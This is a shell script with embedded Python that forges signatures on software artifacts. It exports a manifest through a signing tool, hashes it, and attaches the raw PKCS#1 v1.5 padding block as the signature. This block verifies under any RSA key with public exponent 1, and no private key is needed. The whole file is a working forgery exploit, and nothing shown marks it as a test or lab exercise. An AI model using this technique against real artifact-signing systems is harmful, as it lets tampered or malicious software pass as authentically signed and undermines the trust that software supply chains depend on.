#!/bin/sh
# forge-rsa-e1.sh ARTSIG ARTIFACT BYTES OUT: OUT is ARTIFACT with a signature
# that verifies with any RSA key of BYTES-byte modulus and public exponent 1,
# made without a private key: with e = 1 the PKCS#1 v1.5 block of the
# manifest's SHA-256 is its own signature.
set -eu
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
"$1" export-manifest -o "$dir/manifest" "$2" >/dev/null
openssl dgst -sha256 -binary "$dir/manifest" >"$dir/digest"
python3 - "$dir/digest" "$3" >"$dir/sig" <<'PY'
import base64, sys
digest_info = bytes.fromhex("3031300d060960864801650304020105000420") + open(sys.argv[1], "rb").read()
block = b"\x00\x01" + b"\xff" * (int(sys.argv[2]) - 3 - len(digest_info)) + b"\x00" + digest_info
print(base64.b64encode(block).decode())
PY
"$1" attach-signature -o "$4" "$2" "$dir/sig" >/dev/null
